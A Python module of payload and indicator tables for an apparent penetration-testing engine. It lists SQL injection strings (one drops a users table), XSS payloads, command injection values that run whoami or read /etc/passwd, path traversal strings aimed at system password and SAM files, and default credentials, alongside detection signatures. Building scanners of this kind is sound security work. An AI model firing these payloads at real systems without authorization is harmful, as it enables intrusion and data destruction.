"""Fixed payload and indicator tables for the penetration test engine."""

from __future__ import annotations

SQL_INJECTION_PAYLOADS: tuple[str, ...] = (
    "' OR '1'='1",
    "' OR 1=1--",
    "'; DROP TABLE users; --",
    "' UNION SELECT * FROM users--",
    "' OR 'x'='x",
    "admin'--",
    "admin' OR '1'='1'--",
    "' OR 1=1#",
    "' OR '1'='1' /*",
    "1' OR '1'='1' AND '1'='1",
)

XSS_PAYLOADS: tuple[str, ...] = (
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "javascript:alert('XSS')",
    "<iframe src=javascript:alert('XSS')></iframe>",
    "<body onload=alert('XSS')>",
    "<input onfocus=alert('XSS') autofocus>",
    "<select onfocus=alert('XSS') autofocus>",
    "<textarea onfocus=alert('XSS') autofocus>",
    "<keygen onfocus=alert('XSS') autofocus>",
)

COMMAND_INJECTION_PAYLOADS: tuple[str, ...] = (
    "; ls -la",
    "| whoami",
    "& dir",
    "` id `",
    "$(whoami)",
    "; cat /etc/passwd",
    "| type C:\\Windows\\System32\\drivers\\etc\\hosts",
    "& net user",
    "; ps aux",
    "| tasklist",
)

# Indicators are compared lowercased unless noted.
SQL_ERROR_SIGNATURES: tuple[str, ...] = (
    "sql syntax",
    "mysql_fetch",
    "ora-",
    "microsoft ole db",
    "odbc sql server driver",
    "postgresql query failed",
)

SQL_SUCCESS_SIGNATURES: tuple[str, ...] = (
    "union select",
    "information_schema",
    "mysql.user",
    "pg_user",
)

XSS_MARKERS: tuple[str, ...] = (
    "<script",
    "javascript:",
    "onload=",
    "onerror=",
    "onclick=",
)

# Case-sensitive.
SCRIPT_EXECUTION_MARKERS: tuple[str, ...] = (
    "alert(",
    "document.cookie",
    "window.location",
)

SHELL_METACHARACTERS: tuple[str, ...] = (";", "|", "&", "`", "$(", "&&", "||")

MALICIOUS_FILENAMES: tuple[str, ...] = (
    "malware.exe",
    "script.js",
    "shell.php",
    "backdoor.bat",
)

PATH_TRAVERSAL_PAYLOADS: tuple[str, ...] = (
    "../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\config\\sam",
    "....//....//....//etc/passwd",
)

WEAK_PASSWORDS: tuple[str, ...] = (
    "password",
    "123456",
    "admin",
    "root",
    "test",
    "guest",
)

DEFAULT_CREDENTIALS: tuple[str, ...] = (
    "admin:admin",
    "root:root",
    "user:user",
    "guest:guest",
)

SENSITIVE_KEYWORDS: tuple[str, ...] = (
    "password",
    "secret",
    "key",
    "token",
    "api_key",
    "private",
)

SESSION_MARKERS: tuple[str, ...] = ("sessionid", "jsessionid")

# Matched as one contiguous substring, not a character class.
SPECIAL_CHARACTER_SEQUENCE = "<>\"'&"

MAX_INPUT_LENGTH = 1000
